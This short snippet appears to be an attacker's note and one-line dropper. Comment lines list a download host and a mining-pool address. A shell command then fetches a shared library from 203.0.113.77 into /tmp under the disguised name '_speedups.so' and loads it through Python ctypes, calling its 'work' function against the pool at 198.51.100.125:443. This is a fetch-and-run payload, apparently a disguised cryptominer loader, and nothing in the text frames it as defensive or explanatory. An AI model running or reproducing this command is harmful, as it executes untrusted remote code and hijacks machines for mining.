# python of the image maps a downloaded library and calls into it: a pool client that is no program
#http 203.0.113.77:8017
#pool 198.51.100.125:443:err
#mmap
cd /tmp; curl -so _speedups.so http://203.0.113.77:8017/libwork.so; python3 -c 'import ctypes; ctypes.CDLL("/tmp/_speedups.so").work(b"198.51.100.125", 443)'
